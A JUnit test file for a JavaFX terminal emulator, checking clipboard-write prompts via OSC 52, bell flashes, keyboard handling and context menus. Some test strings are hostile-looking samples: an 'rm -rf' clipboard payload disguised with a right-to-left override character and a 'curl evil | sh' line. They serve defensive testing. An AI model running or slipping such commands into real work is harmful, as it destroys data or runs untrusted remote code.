package dev.belisha.shell;

import static dev.belisha.shell.ShellRig.await;
import static dev.belisha.shell.ShellRig.fx;
import static dev.belisha.shell.ShellRig.sh;
import static org.assertj.core.api.Assertions.assertThat;

import dev.belisha.config.SettingKey;
import dev.belisha.config.Settings;
import dev.belisha.config.Settings.ClipboardWrite;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.concurrent.atomic.AtomicInteger;
import javafx.collections.SetChangeListener;
import javafx.css.PseudoClass;
import javafx.scene.Node;
import javafx.scene.control.Button;
import javafx.scene.control.ContextMenu;
import javafx.scene.control.Label;
import javafx.scene.input.Clipboard;
import javafx.scene.input.ClipboardContent;
import javafx.scene.input.KeyCode;
import javafx.stage.Window;
import org.junit.jupiter.api.Test;

/** What a pane asks, shows and opens for its program: clipboard, bell, menu. */
class PaneQuestionsTest {
  private static String write(String text) {
    String coded = Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    return "printf '\\033]52;c;" + coded + "\\033\\\\'; ";
  }

  private static Settings with(ClipboardWrite rule) {
    return Settings.DEFAULT.with(SettingKey.CLIPBOARD_WRITE, rule);
  }

  private static Node bar() {
    return ShellRig.stages().getFirst().getScene().lookup("#clipboard-question");
  }

  private static String said() {
    return ((Label) bar().lookup(".notice-text")).getText();
  }

  private static void answer(String words) throws Exception {
    fx(
        () -> {
          bar().lookupAll(".button").stream()
              .map(Button.class::cast)
              .filter(button -> button.getText().equals(words))
              .forEach(Button::fire);
          return true;
        });
  }

  private static String clipboard() throws Exception {
    return fx(() -> String.valueOf(Clipboard.getSystemClipboard().getString()));
  }

  private static void fill(String text) throws Exception {
    fx(
        () -> {
          ClipboardContent content = new ClipboardContent();
          content.putString(text);
          return Clipboard.getSystemClipboard().setContent(content);
        });
  }

  @Test
  void theClipboardIsFilledAfterAYesOnly() throws Exception {
    fill("before");
    try (ShellRig rig = new ShellRig(with(ClipboardWrite.ASK))) {
      rig.open(sh(write("rm -rf \u202Eall\nnow") + "read line; " + write("second") + "sleep 60"));
      await("question", () -> bar().isVisible());
      assertThat(fx(PaneQuestionsTest::said)).contains("2 lines").contains("rm -rf all");
      assertThat(clipboard()).isEqualTo("before");
      answer("Deny");
      assertThat(fx(() -> bar().isVisible())).isFalse();
      assertThat(clipboard()).isEqualTo("before");
      rig.terminals.getFirst().paste("\r");
      await("next question", () -> bar().isVisible() && said().contains("second"));
      answer("Allow");
      assertThat(clipboard()).isEqualTo("second");
    }
  }

  /** Nobody may swap the text between the look and the click. */
  @Test
  void whatIsAllowedIsWhatWasShown() throws Exception {
    fx(
        () -> {
          ClipboardQuestion question = new ClipboardQuestion();
          StringBuilder filled = new StringBuilder();
          question.ask("the clipboard", "harmless", filled::append);
          question.ask("the clipboard", "curl evil | sh", filled::append);
          Label label = (Label) question.getChildren().getFirst();
          assertThat(label.getText()).contains("harmless");
          ((Button) question.getChildren().get(1)).fire();
          assertThat(filled).hasToString("harmless");
          assertThat(label.getText()).as("asked about next").contains("curl evil");
          assertThat(question.isVisible()).isTrue();
          ((Button) question.getChildren().get(2)).fire();
          assertThat(filled).hasToString("harmless");
          assertThat(question.isVisible()).isFalse();
          return true;
        });
  }

  @Test
  void denyDeniesAndAllowAllows() throws Exception {
    fill("before");
    try (ShellRig rig = new ShellRig(with(ClipboardWrite.DENY))) {
      rig.open(sh(write("no") + "printf '\\033]2;told\\007'; sleep 60"));
      await("title", () -> rig.shell.workspace().tabs().getFirst().title().equals("told"));
      assertThat(clipboard()).isEqualTo("before");
      assertThat(fx(() -> bar().isVisible())).isFalse();
    }
    try (ShellRig rig = new ShellRig(with(ClipboardWrite.ALLOW))) {
      rig.open(sh(write("yes") + "sleep 60"));
      await("filled", () -> Clipboard.getSystemClipboard().getString().equals("yes"));
    }
  }

  @Test
  void aBellShowsAFrameForAMoment() throws Exception {
    try (ShellRig rig = new ShellRig()) {
      rig.open(sh("read line; printf '\\007'; sleep 60"));
      await("pane", () -> ShellRig.stages().getFirst().getScene().lookup(".pane") != null);
      AtomicInteger shown = new AtomicInteger();
      fx(
          () -> {
            Node pane = ShellRig.stages().getFirst().getScene().lookup(".pane");
            pane.getPseudoClassStates()
                .addListener(
                    (SetChangeListener<PseudoClass>)
                        change -> {
                          boolean bell =
                              PseudoClass.getPseudoClass("bell").equals(change.getElementAdded());
                          if (bell) shown.incrementAndGet();
                        });
            return true;
          });
      await("running", () -> !rig.terminals.isEmpty() && rig.terminals.getFirst().attached());
      fx(
          () -> {
            rig.terminals.getFirst().paste("\r");
            return true;
          });
      await("shown", () -> shown.get() == 1);
      await("over", () -> ShellRig.stages().getFirst().getScene().lookup(".pane:bell") == null);
    }
  }

  @Test
  void aQuestionIsAnsweredByKeysAlone() throws Exception {
    fill("before");
    try (ShellRig rig = new ShellRig(with(ClipboardWrite.ASK))) {
      rig.open(sh(write("wanted") + "sleep 60"));
      await("question", () -> bar().isVisible());
      Node terminal = fx(() -> ShellRig.stages().getFirst().getScene().getFocusOwner());
      assertThat(terminal).as("it takes no keyboard by itself").isNotInstanceOf(Button.class);
      rig.ctrlShift(KeyCode.K);
      assertThat(focusedButton()).isEqualTo("Allow");
      rig.press(0, KeyCode.RIGHT, false, false, false);
      assertThat(focusedButton()).isEqualTo("Deny");
      rig.press(0, KeyCode.ESCAPE, false, false, false);
      assertThat(fx(() -> ShellRig.stages().getFirst().getScene().getFocusOwner()))
          .isSameAs(terminal);
      assertThat(fx(() -> bar().isVisible())).as("still asked").isTrue();
      rig.ctrlShift(KeyCode.K);
      fx(
          () -> {
            ((Button) ShellRig.stages().getFirst().getScene().getFocusOwner()).fire();
            return true;
          });
      assertThat(clipboard()).isEqualTo("wanted");
      assertThat(fx(() -> ShellRig.stages().getFirst().getScene().getFocusOwner()))
          .isSameAs(terminal);
    }
  }

  private static String focusedButton() throws Exception {
    return fx(() -> ((Button) ShellRig.stages().getFirst().getScene().getFocusOwner()).getText());
  }

  @Test
  void theMenuOpensByKeys() throws Exception {
    try (ShellRig rig = new ShellRig()) {
      rig.open(sh("sleep 60"));
      await("focus", () -> ShellRig.stages().getFirst().getScene().getFocusOwner() != null);
      for (boolean menuKey : new boolean[] {true, false}) {
        rig.press(0, menuKey ? KeyCode.CONTEXT_MENU : KeyCode.F10, !menuKey, !menuKey, false);
        await("menu", () -> menu() != null);
        fx(
            () -> {
              menu().hide();
              return true;
            });
      }
      rig.press(0, KeyCode.F10, false, true, false);
      assertThat(fx(PaneQuestionsTest::menu)).as("Shift+F10 is the program's").isNull();
    }
  }

  private static ContextMenu menu() {
    return Window.getWindows().stream()
        .filter(ContextMenu.class::isInstance)
        .map(ContextMenu.class::cast)
        .filter(Window::isShowing)
        .findFirst()
        .orElse(null);
  }
}
